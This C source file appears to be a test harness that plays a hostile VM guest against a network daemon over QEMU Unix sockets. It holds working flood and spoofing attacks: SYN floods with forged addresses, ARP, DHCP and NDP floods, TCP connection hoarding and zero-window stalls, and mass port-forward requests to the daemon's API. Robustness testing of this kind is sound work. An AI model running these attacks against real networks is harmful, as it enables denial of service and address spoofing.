// attacker: a hostile guest on QEMU "stream" Unix sockets, at the rate the machine allows.
// Built on demand: gcc -O2 -pthread -o attacker attacker.c
//
//   attacker -c SOCKET -a ATTACK [-n LINKS] [-g GATEWAY] [-h HOST] [-i FIRST_ADDRESS] [-v VICTIM] [-p PORT] [-o HOLE]
//   attacker -l                  lists the attacks
//   attacker -s -a ATTACK        sends into a socket pair that a thread empties: keeps the machine as busy, and the daemon not at all
//
// PORT + 0 echoes, PORT + 1 sends without end, PORT + 2 is closed; HOLE swallows everything. One thread fills and
// empties all links in turn; a link that the daemon does not read is left alone. One line of JSON on SIGTERM.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>
#include "attacker-frames.h"
#include "attacker-tcp.h"

#define MAX_LINKS 128
#define BATCH 65536

static uint32_t victim_ip, hole_ip, evil;
static uint8_t victim_mac[6];
static unsigned links = 1;
static struct link *link_of[MAX_LINKS];
static const char *path;
static volatile sig_atomic_t ended;
static unsigned long long received, attached;

static double now_s(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec * 1e-9; }
static void die(const char *what) { fprintf(stderr, "attacker: %s: %s\n", what, strerror(errno)); exit(1); }

#define WHILE_ROOM(l, bytes) for (; (l)->len < BATCH && has_room(l, bytes);)

// ---- floods: each frame stands for itself ----
static uint16_t next_port(void) { static uint16_t p = 1024; return p = p == 65535 ? 1024 : p + 1; }
static void syn(struct link *l, uint32_t dst, uint16_t dport) {
  struct segment s = {dst, rnd(l), 0, next_port(), dport, 65535, SYN};
  tcp(l, &s, 0, 0);
}
static void syn_open(struct link *l) { WHILE_ROOM(l, 80) syn(l, host_ip, evil); }
static void syn_closed(struct link *l) { WHILE_ROOM(l, 80) syn(l, host_ip, evil + 2); }
static void syn_hole(struct link *l) { WHILE_ROOM(l, 80) syn(l, hole_ip + (rnd(l) & 127), 80); }
static void syn_spoof(struct link *l) { // a bridge of many machines
  uint32_t own = l->ip;
  WHILE_ROOM(l, 80) { l->ip = (own & ~255u) + 100 + rnd(l) % 100; syn(l, host_ip, evil); }
  l->ip = own;
}
static void udp_to(struct link *l, uint32_t dst, uint16_t dport, const void *data, size_t len) {
  struct udp u = {l->ip, dst, next_port(), dport, 0};
  udp(l, &u, data, len);
}
static void udp_ports(struct link *l) { WHILE_ROOM(l, 60) udp_to(l, host_ip, evil, "hostile", 8); }
static void udp_hole(struct link *l) { WHILE_ROOM(l, 60) udp_to(l, hole_ip + (rnd(l) & 127), rnd(l), "hostile", 8); }
static void udp_closed(struct link *l) { WHILE_ROOM(l, 60) udp_to(l, rnd(l) & 1 ? host_ip : gateway_ip, evil + 2, "hostile", 8); }

static void query(struct link *l, const char *zone) {
  uint8_t q[64] = {0}; size_t n = 12;
  w16(q, rnd(l)); w16(q + 2, 0x0100); w16(q + 4, 1);
  n += snprintf((char *)q + n, 20, "%c%08x%08x", 16, rnd(l), rnd(l));
  q[n++] = strlen(zone); memcpy(q + n, zone, strlen(zone)); n += strlen(zone);
  memcpy(q + n, "\4test", 6); n += 6; w16(q + n, 1); w16(q + n + 2, 1); n += 4;
  udp_to(l, gateway_ip, 53, q, n);
}
static void dns_mute(struct link *l) { WHILE_ROOM(l, 128) query(l, "mute"); }
static void dns_names(struct link *l) { WHILE_ROOM(l, 128) query(l, "good"); }

static void ping_ids(struct link *l) {
  static uint16_t id;
  WHILE_ROOM(l, 64) { echo(l, id & 1 ? host_ip : hole_ip, id, 1); id++; }
}
static void ping_gateway(struct link *l) { WHILE_ROOM(l, 64) echo(l, gateway_ip, 7, rnd(l)); }

static void fragments(struct link *l) { // first ones and last ones, of which no two belong together
  static uint16_t id;
  WHILE_ROOM(l, 1500) {
    struct packet k = {l->ip, host_ip, ++id, id & 1 ? 0x2000 : 0x1f40, 17, 0};
    uint8_t *p = ip_packet(l, &k, 1480);
    w16(p, 1024 + id % 60000); w16(p + 2, evil);
  }
}
static void arp_flood(struct link *l) {
  uint32_t own = l->ip;
  WHILE_ROOM(l, 64) {
    uint32_t r = rnd(l), other = (own & ~255u) + 100 + r % 100;
    if (r & 0x10000) arp(l, 1, BROADCAST, own, other);
    else { w32(l->mac + 2, r); arp(l, 2, BROADCAST, other, other); w32(l->mac + 2, own); }
  }
}
static void dhcp(struct link *l) { // DISCOVER and REQUEST, each of another machine
  uint8_t b[300], own[6];
  memcpy(own, l->mac, 6);
  WHILE_ROOM(l, 400) {
    uint32_t r = rnd(l); int request = r & 1;
    w16(l->mac, 0x0200); w32(l->mac + 2, r);
    memset(b, 0, sizeof b);
    b[0] = 1; b[1] = 1; b[2] = 6; w32(b + 4, r); w16(b + 10, 0x8000); w16(b + 28, 0x0200); w32(b + 30, r);
    w32(b + 236, 0x63825363);
    uint8_t *o = b + 240;
    *o++ = 53; *o++ = 1; *o++ = request ? 3 : 1;
    if (request) { *o++ = 50; *o++ = 4; w32(o, (l->ip & ~255u) + 2 + r % 250); o += 4; }
    *o++ = 255;
    struct udp u = {0, 0xffffffff, 68, 67, BROADCAST};
    udp(l, &u, b, sizeof b);
  }
  memcpy(l->mac, own, 6);
}
static void ndp(struct link *l) { // neighbour solicitations, advertisements and router advertisements
  WHILE_ROOM(l, 96) {
    uint8_t to[6] = {0x33, 0x33, 0, 0, 0, 1}; uint32_t r = rnd(l);
    uint8_t *p = frame(l, ETH + 40 + 32, to, 0x86dd) + ETH, *m = p + 40;
    p[0] = 0x60; w16(p + 4, 32); p[6] = 58; p[7] = 255;
    w16(p + 8, 0xfe80); w32(p + 20, r); w16(p + 24, 0xff02); p[39] = 1;
    m[0] = 134 + r % 3; w16(m + 8, 0xfe80); w32(m + 20, rnd(l)); m[24] = 1; m[25] = 1; memcpy(m + 26, l->mac, 6);
    w16(m + 2, folded(sum(sum(32 + 58, p + 8, 32), m, 32)));
  }
}
static void multicast(struct link *l) {
  static const uint8_t group[6] = {1, 0, 0x5e, 0, 0, 0xfb}; static uint8_t data[1400];
  WHILE_ROOM(l, 1500) {
    struct udp u = {l->ip, rnd(l) & 1 ? 0xe00000fb : 0xffffffff, 5353, 5353, 0};
    u.mac = u.dst == 0xffffffff ? BROADCAST : group;
    udp(l, &u, data, sizeof data);
  }
}
static void guest_flood(struct link *l) {
  static uint8_t data[1400];
  WHILE_ROOM(l, 1500) { struct udp u = {l->ip, victim_ip, next_port(), 9, victim_mac}; udp(l, &u, data, sizeof data); }
}
static void garbage(struct link *l) { // what is dropped at once
  WHILE_ROOM(l, 64) {
    uint32_t r = rnd(l);
    uint8_t *p = frame(l, 60, gateway_mac, r & 3 ? 0x0800 : 0x88b5) + ETH;
    p[0] = 0x45; w16(p + 2, 46); w32(p + 4, r); w32(p + 12, l->ip); w32(p + 16, host_ip);
  }
}

// ---- attacks by connections ----
static void idle(struct link *l, uint16_t port, struct conn *c, const struct arrival *a) {
  (void)a; if (c->stage == 0) { c->stage = 1; send_tcp(l, port, ACK, 0, 0, 65535); }
}
static void fill_edge(struct link *l) { open_conns(l, 10000, 6000, gateway_ip, 53, now_s()); }
static void edge(struct link *l, uint16_t port, struct conn *c, const struct arrival *a) {
  (void)a;
  if (c->stage == 0) { c->stage = 1; send_tcp(l, port, ACK | PSH, "", 1, 65535); }
  else if (c->stage == 1 && c->window > 1) {
    uint32_t at = c->snd_nxt;
    c->stage = 2; c->snd_nxt = at + c->window - 1;
    send_tcp(l, port, ACK | PSH, "", 1, 65535);
    c->snd_nxt = at;
  }
}
static void fill_hoard(struct link *l) { open_conns(l, 2000, 60000, host_ip, evil, now_s()); }
static void fill_api(struct link *l) { open_conns(l, 2000, 20000, gateway_ip, 80, now_s()); }
static void half_request(struct link *l, uint16_t port, struct conn *c, const struct arrival *a) {
  (void)a; if (c->stage == 0) { c->stage = 1; send_tcp(l, port, ACK | PSH, "GET / HTTP/1.1\r\nHost: x", 23, 65535); }
}
static void churn(struct link *l, uint16_t port, struct conn *c, const struct arrival *a) {
  (void)a; (void)c; close_conn(l, port, rnd(l) & 1 ? RST | ACK : FIN | ACK);
}
static void fill_zero(struct link *l) { open_conns(l, 20000, 500, host_ip, evil + 1, now_s()); }
static void zero(struct link *l, uint16_t port, struct conn *c, const struct arrival *a) {
  if (c->stage == 0) { c->stage = 1; send_tcp(l, port, ACK, 0, 0, 65535); } else if (a->len) send_tcp(l, port, ACK, 0, 0, 0);
}
static void fill_download(struct link *l) { open_conns(l, 20000, 8, host_ip, evil + 1, now_s()); }
static void taken(struct link *l, uint16_t port, struct conn *c, const struct arrival *a) {
  (void)a; if (c->stage == 0) { c->stage = 1; send_tcp(l, port, ACK, 0, 0, 8192); }
}
static void fill_acks(struct link *l) { // out of the window: each would have a challenge ACK
  open_conns(l, 20000, 4, host_ip, evil, now_s());
  WHILE_ROOM(l, 80) {
    uint16_t port = 20000 + (rnd(l) & 3);
    struct segment s = {host_ip, conns[port].snd_nxt + (1 << 30), conns[port].rcv_nxt, port, evil, 65535, rnd(l) & 1 ? RST | ACK : ACK | PSH};
    if (conns[port].state == OPEN) tcp(l, &s, "x", 1); else break;
  }
}
static void fill_publish(struct link *l) { open_conns(l, 20000, 64, gateway_ip, 80, now_s()); }
static void post(struct link *l, uint16_t port, const char *where, const char *body) {
  char text[4096];
  int n = snprintf(text, sizeof text, "POST %s HTTP/1.1\r\nHost: 192.168.127.1\r\nContent-Type: application/json\r\nContent-Length: %zu\r\n\r\n%s", where, strlen(body), body);
  for (int o = 0; o < n; o += 1400) send_tcp(l, port, ACK | PSH, text + o, n - o < 1400 ? n - o : 1400, 65535);
}
static void publish(struct link *l, uint16_t port, struct conn *c, const struct arrival *a) {
  static uint16_t next = 10000; char body[200];
  if (c->stage && !a->len) return;
  if (a->flags & FIN) { close_conn(l, port, RST | ACK); return; }
  c->stage = 1; next = next == 65535 ? 10000 : next + 1;
  snprintf(body, sizeof body, "{\"local\":\"127.0.0.1:%u\",\"remote\":\"192.168.127.%u:80\",\"protocol\":\"tcp\"}", next, l->ip & 255);
  post(l, port, "/services/forwarder/expose", body);
}
static void noise(struct link *l, uint16_t port, struct conn *c, const struct arrival *a) {
  static char where[2600];
  if (c->stage && !a->len) return;
  if (a->flags & FIN) { close_conn(l, port, RST | ACK); return; }
  if (!where[0]) { memset(where, 'a', sizeof where - 1); where[0] = '/'; }
  c->stage = 1; post(l, port, where, "{");
}

struct attack {
  const char *name;
  void (*fill)(struct link *);
  void (*on_tcp)(struct link *, uint16_t, struct conn *, const struct arrival *);
  int acks; // whether what a connection brings is acknowledged
  int deaf; // nothing is read
  int comes_and_goes;
};
static const struct attack ATTACKS[] = {
  {"window-edge", fill_edge, edge, 0, 0, 0}, {"syn-open", syn_open, 0, 0, 0, 0}, {"syn-closed", syn_closed, 0, 0, 0, 0},
  {"syn-hole", syn_hole, 0, 0, 0, 0}, {"syn-addresses", syn_spoof, 0, 0, 0, 0}, {"tcp-hoard", fill_hoard, idle, 1, 0, 0},
  {"tcp-churn", fill_hoard, churn, 0, 0, 0}, {"challenge-acks", fill_acks, idle, 0, 0, 0}, {"zero-window", fill_zero, zero, 0, 0, 0},
  {"download", fill_download, taken, 1, 0, 0}, {"udp-ports", udp_ports, 0, 0, 0, 0}, {"udp-hole", udp_hole, 0, 0, 0, 0},
  {"udp-closed", udp_closed, 0, 0, 0, 0}, {"dns-mute", dns_mute, 0, 0, 0, 0}, {"dns-names", dns_names, 0, 0, 0, 0},
  {"ping-ids", ping_ids, 0, 0, 0, 0}, {"deaf", ping_gateway, 0, 0, 1, 0}, {"fragments", fragments, 0, 0, 0, 0},
  {"arp", arp_flood, 0, 0, 0, 0}, {"dhcp", dhcp, 0, 0, 0, 0}, {"ndp", ndp, 0, 0, 0, 0}, {"multicast", multicast, 0, 0, 0, 0},
  {"guest-flood", guest_flood, 0, 0, 0, 0}, {"garbage", garbage, 0, 0, 0, 0}, {"publish", fill_publish, publish, 1, 0, 0},
  {"api-hoard", fill_api, half_request, 1, 0, 0}, {"api-noise", fill_publish, noise, 1, 0, 0}, {"reattach", syn_open, 0, 0, 0, 1},
};
#define COUNT (sizeof ATTACKS / sizeof *ATTACKS)
static const struct attack *attack;

// ---- links ----
static int dial(void) {
  struct sockaddr_un sa = {.sun_family = AF_UNIX};
  strncpy(sa.sun_path, path, sizeof sa.sun_path - 1);
  int s = socket(AF_UNIX, SOCK_STREAM, 0), size = 1 << 20;
  setsockopt(s, SOL_SOCKET, SO_SNDBUF, &size, sizeof size);
  if (connect(s, (void *)&sa, sizeof sa)) { close(s); return -1; }
  fcntl(s, F_SETFL, O_NONBLOCK); attached++;
  return s;
}
static void on_frame(struct link *l, const uint8_t *p, size_t len) {
  received++;
  if (len < ETH + IP) return;
  uint16_t type = r16(p + 12); const uint8_t *n = p + ETH;
  if (type == 0x0806) {
    if (len < ETH + 28) return;
    if (r32(n + 14) == gateway_ip) memcpy(gateway_mac, n + 8, 6);
    if (r32(n + 14) == victim_ip) memcpy(victim_mac, n + 8, 6);
    if (r16(n + 6) == 1 && r32(n + 24) == l->ip && has_room(l, 64)) arp(l, 2, n + 8, l->ip, r32(n + 14));
    return;
  }
  if (type != 0x0800 || n[9] != 6 || !attack->on_tcp || r32(n + 16) != l->ip) return;
  size_t header = (n[0] & 15) * 4, total = r16(n + 2);
  if (header < IP || total > len - ETH || total < header + 20) return;
  struct arrival a;
  struct conn *c = on_segment(n + header, total - header, &a);
  if (c) attack->on_tcp(l, a.port, c, &a);
}
static void acknowledge(struct link *l) {
  for (unsigned i = 0; i < ndirty; i++) {
    struct conn *c = &conns[dirty[i]];
    c->dirty = 0;
    if (attack->acks && c->state == OPEN) send_tcp(l, dirty[i], ACK, 0, 0, 8192);
  }
  ndirty = 0;
}
static int lost(struct link *l) { close(l->fd); l->fd = -1; l->off = l->len = l->have = 0; return 0; }
static int take(struct link *l) {
  ssize_t n = recv(l->fd, l->in + l->have, IN_BYTES - l->have, 0);
  if (n <= 0) return n < 0 && errno == EAGAIN ? 1 : lost(l);
  size_t o = 0; l->have += n;
  while (l->have - o >= 4) {
    uint32_t len = r32(l->in + o);
    if (l->have - o < 4 + len) break;
    on_frame(l, l->in + o + 4, len); o += 4 + len;
  }
  memmove(l->in, l->in + o, l->have - o); l->have -= o;
  acknowledge(l);
  return 1;
}
// @returns whether all is gone
static int give(struct link *l) {
  while (l->fd >= 0 && l->off < l->len) {
    ssize_t n = send(l->fd, l->out + l->off, l->len - l->off, MSG_NOSIGNAL);
    if (n < 0) { if (errno == EAGAIN) return 0; lost(l); return 1; }
    l->off += n;
  }
  l->off = l->len = 0;
  return 1;
}
static void *empty(void *fd) { static char b[1 << 18]; while (recv(*(int *)fd, b, sizeof b, 0) > 0) {} return 0; }

static void open_links(uint32_t first, int sink) {
  static int pair[2]; pthread_t t;
  for (unsigned i = 0; i < links; i++) {
    struct link *l = link_of[i] = calloc(1, sizeof *l);
    l->ip = first + i; l->seed = 2463534242u + i; l->mac[0] = 2; l->mac[1] = 0xba; w32(l->mac + 2, l->ip);
    if (sink) {
      if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair)) die("socketpair");
      fcntl(pair[0], F_SETFL, O_NONBLOCK); l->fd = pair[0];
      pthread_create(&t, 0, empty, &pair[1]);
    } else if ((l->fd = dial()) < 0) die(path);
  }
}
// Announce ourselves, and learn where the gateway and the victim are.
static int is_known(const uint8_t *mac) { return (mac[0] | mac[1] | mac[5]) != 0; }
static void greet(void) {
  double until = now_s() + 3;
  while (now_s() < until && (!is_known(gateway_mac) || (victim_ip && !is_known(victim_mac)))) {
    for (unsigned i = 0; i < links; i++) {
      struct link *l = link_of[i];
      if (l->fd < 0) continue;
      arp(l, 1, BROADCAST, l->ip, gateway_ip);
      if (victim_ip) arp(l, 1, BROADCAST, l->ip, victim_ip);
      give(l);
    }
    struct pollfd p = {link_of[0]->fd, POLLIN, 0};
    if (poll(&p, 1, 200) > 0 && !take(link_of[0])) die("the daemon hung up");
  }
  if (!is_known(gateway_mac)) { fprintf(stderr, "attacker: no answer from the gateway\n"); exit(1); }
}
static void run(void) {
  struct pollfd p[MAX_LINKS];
  while (!ended) {
    int made = 0;
    for (unsigned i = 0; i < links; i++) {
      struct link *l = link_of[i];
      if (l->fd < 0 && (l->fd = dial()) < 0) { p[i] = (struct pollfd){-1, 0, 0}; continue; }
      if (l->len == 0) attack->fill(l);
      int filled = l->len > 0, clear = give(l);
      if (attack->comes_and_goes && clear && l->fd >= 0) lost(l);
      made |= filled && clear;
      p[i] = (struct pollfd){l->fd, (attack->deaf ? 0 : POLLIN) | (clear ? 0 : POLLOUT), 0};
    }
    if (poll(p, links, made ? 0 : 5) <= 0) continue;
    for (unsigned i = 0; i < links; i++) if (p[i].revents & (POLLIN | POLLHUP) && link_of[i]->fd >= 0) take(link_of[i]);
  }
}
static void end(int sig) { (void)sig; ended = 1; }
static uint32_t address(const char *text) { struct in_addr a; if (!inet_aton(text, &a)) { errno = EINVAL; die(text); } return ntohl(a.s_addr); }

int main(int argc, char **argv) {
  uint32_t first = address("192.168.127.66"); int c, sink = 0;
  gateway_ip = address("192.168.127.1"); host_ip = address("192.168.127.254"); hole_ip = address("198.18.1.100"); evil = 5400;
  while ((c = getopt(argc, argv, "c:a:n:g:h:i:v:p:o:ls")) != -1) switch (c) {
    case 'c': path = optarg; break; case 'n': links = atoi(optarg); break; case 's': sink = 1; break;
    case 'g': gateway_ip = address(optarg); break; case 'h': host_ip = address(optarg); break;
    case 'i': first = address(optarg); break; case 'v': victim_ip = address(optarg); break;
    case 'o': hole_ip = address(optarg); break; case 'p': evil = atoi(optarg); break;
    case 'a': for (size_t i = 0; i < COUNT; i++) if (!strcmp(ATTACKS[i].name, optarg)) attack = &ATTACKS[i]; break;
    case 'l': for (size_t i = 0; i < COUNT; i++) puts(ATTACKS[i].name); return 0;
    default: return 2; }
  if (!attack || (!path && !sink) || links < 1 || links > MAX_LINKS) { fprintf(stderr, "attacker: -c SOCKET (or -s) and -a one of those of -l are needed\n"); return 2; }
  signal(SIGTERM, end); signal(SIGINT, end); signal(SIGPIPE, SIG_IGN);
  open_links(first, sink);
  if (!sink) greet();
  fprintf(stderr, "ready\n");
  double began = now_s();
  run();
  double seconds = now_s() - began;
  unsigned open = 0;
  for (unsigned i = 0; i < 65536; i++) open += conns[i].state == OPEN;
  printf("{\"seconds\":%.2f,\"sent\":%llu,\"received\":%llu,\"opened\":%u,\"open\":%u,\"resets\":%u,\"attached\":%llu}\n",
    seconds, frames_sent, received, opened, open, resets, attached);
  return 0;
}
